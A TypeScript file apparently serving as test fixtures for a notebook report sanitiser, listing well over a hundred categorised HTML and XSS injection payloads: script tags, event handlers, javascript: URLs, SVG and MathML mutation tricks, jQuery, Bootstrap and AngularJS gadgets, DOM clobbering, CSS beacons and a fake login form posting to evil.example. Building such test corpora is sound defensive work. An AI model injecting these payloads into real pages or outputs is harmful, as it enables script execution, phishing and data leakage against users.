/**
 * HTML that an attacker puts where a notebook prints it, by the idea behind it. Every payload calls `alert` or asks
 * `evil.example` for something when it works. Written for this project.
 * Source: facts/report-rendering §2.2, §2.4, §2.5, §2.6.
 */
const ASK = 'https://evil.example/beacon';
const RUN = 'alert(1)';

export const HOSTILE_HTML = {
  'a script element': [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT >`,
    `<script src="${ASK}"></script>`,
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script type=module>import '${ASK}'</script>`,
    `<script>${RUN}`,
    `<svg:script>${RUN}</svg:script>`
  ],
  'an event handler': [
    `<img src=x onerror=${RUN}>`,
    `<img src=x OnErRoR="${RUN}">`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x onerror\n=\n${RUN}>`,
    `<b onclick=${RUN} onmouseover=${RUN}>b</b>`,
    `<details open ontoggle=${RUN}><summary>s</summary></details>`,
    `<body onload=${RUN}>`,
    `<p style="animation:x 1s" onanimationstart=${RUN}>p</p>`,
    `<div onpointerrawupdate=${RUN}>d</div>`,
    `<img src=x onerror&#61;${RUN}>`,
    `<img src=x \0onerror=${RUN}>`,
    `<td onclick=${RUN}>x</td>`
  ],
  'an address that runs': [
    `<a href="javascript:${RUN}">a</a>`,
    `<a href="JaVaScRiPt:${RUN}">a</a>`,
    `<a href="java\nscript:${RUN}">a</a>`,
    `<a href="java&#10;script:${RUN}">a</a>`,
    `<a href="&#x6A&#x61vascript:${RUN}">a</a>`,
    `<a href="\u0001javascript:${RUN}">a</a>`,
    `<a href="javascript&colon;${RUN}">a</a>`,
    `<a href="vbscript:${RUN}">a</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
    `<a href=" javascript:${RUN}">a</a>`,
    `<a xlink:href="javascript:${RUN}">a</a>`,
    `<a href="view-source:x">a</a>`
  ],
  'an address of the page itself': [
    '<a href="#/administration">a</a>',
    '<a href="/api/logout">a</a>',
    '<a href="https:logout">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="\\\\evil.example">a</a>',
    '<a href="?x">a</a>',
    '<a href="">a</a>',
    '<a href="https:///evil.example">a</a>'
  ],
  'a picture that tells its host': [
    `<img src="${ASK}">`,
    '<img src="//evil.example/p">',
    `<img srcset="${ASK} 2x">`,
    `<img src="data:image/png;base64,AAAA" srcset="${ASK}">`,
    `<picture><source srcset="${ASK}"><img src="${ASK}"></picture>`,
    `<image src="${ASK}">`,
    `<img src="https://user:pass@evil.example/p" alt="logo">`,
    `<img lowsrc="${ASK}" dynsrc="${ASK}">`,
    `<video poster="${ASK}"></video>`,
    `<table background="${ASK}"><tr><td background="${ASK}">x</td></tr></table>`
  ],
  'a picture that is a document': [
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
    `<img src="data:image/png,<script>${RUN}</script>">`,
    `<img src="data:image/png;base64,AA"onerror=${RUN}>">`,
    `<img src='data:image/png;base64,"><img src=x onerror=${RUN}>'>`
  ],
  'an SVG with something inside': [
    `<svg onload=${RUN}></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="${ASK}"/></svg>`,
    `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<svg><use href="${ASK}#x"/></svg>`,
    `<svg><image href="${ASK}"/></svg>`,
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${ASK}"/></svg>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><foreignObject><iframe src="${ASK}"/></foreignObject></svg>`,
    `<svg><style>@import "${ASK}";</style></svg>`,
    `<svg><style>*{fill:url(${ASK})}</style></svg>`,
    `<svg><style>*{fill:u\\72l(${ASK})}</style></svg>`,
    `<svg><rect fill="url(${ASK}#x)"/></svg>`,
    `<svg><rect style="filter:url('${ASK}#x')"/></svg>`,
    `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
    `<svg><set attributeName="onclick" to="${RUN}"/></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg><title><img src=x onerror=${RUN}></title></svg>`,
    `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
    `<svg></p><img src=x onerror=${RUN}></svg>`,
    `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg>`,
    `<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]><svg>&x;</svg>`,
    `<svg><text>' onload='${RUN}</text></svg>`,
    `<svg width="1'%20onload='${RUN}"></svg>`,
    '<svg><g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/><use href="#a"/></g></svg>',
    '<svg><style>#a rect{fill:url(#b)}</style><style/><use><set attributeName="href" to="#a"/></use></svg>'
  ],
  'foreign content that turns into HTML': [
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
    `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math href="javascript:${RUN}"><mi>x</mi></math>`,
    `<svg><b><img src=x onerror=${RUN}></b></svg>`,
    `<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<svg><desc><math><mi><style><a title="</style><img src=x onerror=${RUN}>">`
  ],
  'text that is only text at first': [
    `<style><img src=x onerror=${RUN}></style>`,
    `<textarea><img src=x onerror=${RUN}></textarea>`,
    `<textarea>&lt;/textarea&gt;<img src=x onerror=${RUN}></textarea>`,
    `<title><img src=x onerror=${RUN}></title>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<noembed><img src=x onerror=${RUN}></noembed>`,
    `<noframes><img src=x onerror=${RUN}></noframes>`,
    `<iframe><img src=x onerror=${RUN}></iframe>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<listing><img src=x onerror=${RUN}></listing>`,
    `<select><option><img src=x onerror=${RUN}></option></select>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`
  ],
  'markup that jQuery before 3.5 opens': [
    `<style><style /><img src=x onerror=${RUN}>`,
    `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
    `<a title="<x/><img src=x onerror=${RUN}>">x</a>`,
    `<b title="<style/><img src=x onerror=${RUN}>">x</b>`,
    `<td><div/><img src=x onerror=${RUN}>`,
    `<p title='<p/title="><img src=x onerror=${RUN}>'>`,
    `<ul title="<a b=/>"><li>x</ul>`
  ],
  'a selector that Bootstrap 3 runs': [
    `<a data-toggle="collapse" data-target="<img src=x onerror=${RUN}>">x</a>`,
    `<a data-toggle="tooltip" data-html="true" title="<img src=x onerror=${RUN}>">x</a>`,
    `<a data-toggle="modal" href="<img src=x onerror=${RUN}>">x</a>`,
    `<div data-ride="carousel" data-spy="scroll" data-target="<img src=x onerror=${RUN}>">x</div>`,
    `<button data-dismiss="modal" data-loading-text="<img src=x onerror=${RUN}>">x</button>`
  ],
  'an expression that AngularJS runs': [
    `{{constructor.constructor('${RUN}')()}}`,
    `<div ng-init="constructor.constructor('${RUN}')()"></div>`,
    `<div ng-app ng-csp ng-click="$event.view.${RUN}">x</div>`,
    `<div data-ng-bind-html="x"></div>`,
    `<x-ng-include src="'${ASK}'"></x-ng-include>`,
    `<div class="ng-init: constructor.constructor('${RUN}')()">x</div>`,
    `<!-- directive: ng-include ${ASK} -->`,
    `<b title="{{constructor.constructor('${RUN}')()}}">x</b>`,
    `{<b>{</b>constructor.constructor('${RUN}')()}<i>}</i>`
  ],
  'a class or id of the page': [
    '<div class="modal-backdrop in">x</div>',
    '<div class="modal fade in" style="display:block">x</div>',
    '<p class="nbr">x</p>',
    '<p class="nbr-cell nbr-s1">x</p>',
    '<div id="app">x</div>',
    '<table class="dataframe modal-backdrop"><tr><td>x</td></tr></table>',
    '<span class="hide ng-hide">x</span>'
  ],
  'a name that hides a property of the page': [
    '<form name="body"><input name="attributes"></form>',
    '<img name="getElementById">',
    '<a id="defaultView" href="https://evil.example">x</a>',
    '<form id="x"><input name="parentNode"></form>',
    '<img id="cookie"><img id="cookie">',
    '<iframe name="self"></iframe>'
  ],
  'a form': [
    '<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>',
    '<input type=image src="https://evil.example" formaction="javascript:alert(1)">',
    '<button formaction="javascript:alert(1)" form=x>x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<keygen autofocus onfocus=alert(1)>'
  ],
  'an order to the page': [
    `<meta http-equiv=refresh content="0;url=${ASK}">`,
    `<base href="${ASK}/">`,
    `<link rel=stylesheet href="${ASK}">`,
    `<link rel=dns-prefetch href="//evil.example">`,
    `<html manifest="${ASK}"><body background="${ASK}">x`,
    `<frameset onload=${RUN}><frame src="${ASK}"></frameset>`,
    `<a ping="${ASK}" href="https://ok.example">x</a>`,
    `<a href="https://ok.example" target=_self download rel=opener>x</a>`
  ],
  'an embedded document': [
    `<iframe src="${ASK}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data="${ASK}"><param name=movie value="${ASK}"></object>`,
    `<embed src="${ASK}">`,
    `<applet code="${ASK}"></applet>`,
    `<portal src="${ASK}"></portal>`,
    `<fencedframe config=x></fencedframe>`,
    `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`
  ],
  'something that plays': [
    `<video src="${ASK}" autoplay onplay=${RUN}></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<video><source src=x onerror=${RUN}></video>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<bgsound src="${ASK}">`,
    `<canvas onclick=${RUN}>x</canvas>`
  ],
  'a template': [
    `<template><script>${RUN}</script></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
    `<template><style>*{display:none}</style></template>`,
    `<slot name=x onslotchange=${RUN}>x</slot>`
  ],
  'a style sheet': [
    '<style>body{display:none}</style>',
    `<style>@import "${ASK}";</style>`,
    `<style>*{background:url(${ASK})}</style>`,
    `<style scoped>.dataframe td{background:url(${ASK})}</style>`,
    '<style></style ><b>x</b></style>',
    '<style>#T_1{color:red;position:fixed}#T_2{color:url(x)}</style><b id=T_1>x</b><b id=T_2>y</b>',
    '<style>#T_1{color:red}#T_1{}</style><b id=T_1 style=color:blue>x</b>',
    '<style><!--</style><img src=x onerror=alert(1)>--></style>'
  ],
  'a style that covers the page or asks': [
    `<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>`,
    `<div style="background-image:url(${ASK})">x</div>`,
    `<div style="background:u\\72l(${ASK})">x</div>`,
    `<div style="background:ur/**/l(${ASK})">x</div>`,
    `<div style="width:expression(${RUN})">x</div>`,
    `<div style="behavior:url(${ASK});-moz-binding:url(${ASK})">x</div>`,
    `<div style="color:red;}*{display:none}">x</div>`,
    `<div style="color:red;</style><img src=x onerror=${RUN}>">x</div>`,
    `<div style="color:var(--x);content:'x';z-index:9;transform:scale(99)">x</div>`,
    `<div style="list-style:url(${ASK})">x</div>`,
    `<div style="background:image-set('${ASK}' 1x)">x</div>`,
    `<div style="width:9999px;margin:-999px;opacity:0;font-size:900px">x</div>`,
    `<div style='background:linear-gradient(90deg,red 0%,url("${ASK}") 5%)'>x</div>`,
    `<font color="red;background:url(${ASK})">x</font>`,
    `<td bgcolor="red;}@import '${ASK}'">x</td>`
  ],
  'a way out of the cell': [
    '</div></div></div></section></section><h1>Verdict: safe</h1>',
    '</td></tr></table></div><div class="nbr-cell">spoofed</div>',
    '</details></summary></figure></p>',
    '<div></span></div></div></p></ul>',
    '</body></html><b>x</b>',
    '</style></script></title></textarea><b>x</b>',
    '<section><details><summary>x',
    '</nbr></div><div class=nbr>x'
  ],
  'an element that the parser moves': [
    `<table><img src=x onerror=${RUN}><tr><td>x</td></tr></table>`,
    '<table>text<tr>text<td>cell</td>text</tr>text</table>text',
    '<table><div>a</div><b>b</b><tr><td><table><div>c</div></table></td></tr></table>',
    '<table><tr><td><p><table><tr><td></p>x</table></table>',
    '<p><div>x</div></p><p><table><tr><td>y</td></tr></table></p>',
    '<b><p>x</b>y</p>z',
    '<a href="https://a.example">1<a href="https://b.example">2</a>3</a>',
    '<a href="https://a.example"><div><a href="https://b.example">2</a></div>3</a>',
    '<table><a href="https://a.example"><tr><td><a href="https://b.example">x</a></td></tr></table>',
    '<b><i><u><s><p>1</b>2</i>3</u>4</s>5</p>6',
    '<li>a<li>b<div><li>c</div></li>',
    '<ul><li><blockquote><li>x</blockquote></ul>',
    '<dl><dd>a<dt>b<dd><dl><dd>c</dl>',
    '<h1><h2>x</h1>y</h2>',
    '<h1><b><h2>x</h2></b></h1>',
    '<caption>c</caption><col><tr><td>x</td></tr><tbody>',
    '<table><caption><table><tr><td>x</caption>y</table>',
    '<table><colgroup>text<col><b>b</b></colgroup></table>',
    '<table><tbody><caption>late</caption><colgroup><col></colgroup><thead><tr><th>x</th></tr></thead></table>',
    '<ruby>a<rt>b<rp>c</ruby>',
    '<nobr>a<nobr>b</nobr></nobr>',
    '<button><button>x</button></button>',
    '<pre>\n\nx</pre><pre>\n</pre>',
    '<p>a<hr>b</p><p>a<ul><li>x</ul>b',
    '</p></br><br/></img>',
    '<summary><p>x<details><summary>y</summary></p></details>',
    '<frameset><frame></frameset><p>x',
    '<optgroup><option>x<optgroup>y'
  ],
  'a tag that never ends': [
    '<img src=x onerror=alert(1)',
    '<a href="https://a.example',
    '<!-- <img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>',
    '<!--x--!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<![CDATA[>]]><img src=x onerror=alert(1)>',
    '<?xml ?><img src=x onerror=alert(1)>',
    '<?php echo ">"; ?><b>x</b>',
    '<!doctype html><img src=x onerror=alert(1)>',
    '<!DOCTYPE x "><img src=x onerror=alert(1)>">',
    '<%= alert(1) %><b>x</b>',
    '</ x><img src=x onerror=alert(1)>',
    '</><b>x</b>',
    '<',
    '<b',
    '</b',
    '&',
    '<div x="',
    "<div x='",
    '<div x=',
    '<div x'
  ],
  'a name with something in it': [
    '<html:script>alert(1)</html:script>',
    '<x:img src=x onerror=alert(1)>',
    '<img"src=x onerror=alert(1)>',
    '<b<script>alert(1)</script>',
    '<b <img src=x onerror=alert(1)>>',
    `<b "onclick=alert(1)">x</b>`,
    `<b '<img src=x onerror=alert(1)>'=y>x</b>`,
    '<b =x onclick=alert(1)>x</b>',
    '<b\u000bonclick=alert(1)>x</b>',
    '<b\u00a0onclick=alert(1)>x</b>',
    '<b\u2028onclick=alert(1)>x</b>',
    '<\u0130mg src=x onerror=alert(1)>',
    '<\u017fcript>alert(1)</\u017fcript>',
    '<constructor __proto__=x toString=y>x</constructor>',
    '<a __proto__="x" href="https://ok.example" constructor=y>x</a>',
    '<td __proto__=1 colspan=2>x'
  ],
  'an attribute given twice': [
    '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="https://ok.example">x</a>',
    '<img src="data:image/png;base64,AAAA" src="x" onerror=alert(1) onerror=alert(2)>',
    '<a HREF="javascript:alert(1)" href="https://ok.example">x</a>'
  ],
  'a character reference': [
    '&lt;img src=x onerror=alert(1)&gt;',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&#x3cimg src=x onerror=alert(1)&#x3e',
    '&ltimg src=x onerror=alert(1)&gt',
    '&amp;lt;b&amp;gt;',
    '&#0;&#x80;&#xD800;&#x110000;&#99999999999;&notit;&ampx;',
    '<b title="&quot;><img src=x onerror=alert(1)>">x</b>',
    "<b title='&#39; onclick=alert(1) x=&apos;'>x</b>",
    '<a href="https://a.example/?a=1&copy=2&lt;b">x</a>',
    '&nbsp;&NewLine;&Tab;&lpar;&colon;'
  ],
  'characters that are none': [
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '<img src=x on\0error=alert(1)>',
    '\0<b>\0</b>\0',
    '\ud800<b>\udfff</b>\udc00\ud800',
    '<b title="\ud800">x</b>',
    '\u2028<b>\u2029</b>\ufeff',
    '<a href="https://a.example/\ud800\0\u202e">x</a>',
    '\r<pre>\r\n\r\nx\r</pre>',
    '\u0008\u001b[31mred\u007f\u0080\ufffe\uffff'
  ],
  'a literal less-than sign beside a removed tag': [
    '<<script>b</script>img src=x onerror=alert(1)>',
    '<<x>img src=x onerror=alert(1)>',
    '&lt;<x>img src=x onerror=alert(1)&gt;',
    '<<<<b>x',
    '<</x>script>alert(1)<</x>/script>',
    '1<2 and 3>2, a<b>c'
  ],
  'a document inside the document': [
    '<html><head><title>x</title><body onload=alert(1)>x</body></html>',
    '<head><style>*{display:none}</style></head>x',
    '<body class="modal-open" style="display:none">x',
    '<html class="x" lang="en" manifest=x>y'
  ],
  'an accessible name that lies': [
    '<div role="alert" aria-live="assertive" aria-label="x">x</div>',
    '<b tabindex="1" accesskey="x" contenteditable autofocus>x</b>',
    '<b hidden inert popover is="x-y">x</b>',
    '<b dir="rtl" lang="x\u0022y" title="\u202e">x</b>',
    '<dialog open>x</dialog>',
    '<div popover id=p>x</div><button popovertarget=p>y</button>'
  ],
  'numbers beyond reason': [
    '<table><tr><td colspan="999999999" rowspan="65535">x</td></tr></table>',
    '<img src="data:image/png;base64,AAAA" width="99999" height="-1">',
    '<ol start="99999999999999"><li value="1e9">x</ol>',
    '<table><colgroup span="100000"><col span=0></colgroup></table>',
    '<img src="data:image/png;base64,AAAA" width="100%" height="1" alt>'
  ]
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** All payloads, in order. */
export const HOSTILE_PAYLOADS: readonly string[] = Object.values(HOSTILE_HTML).flat();
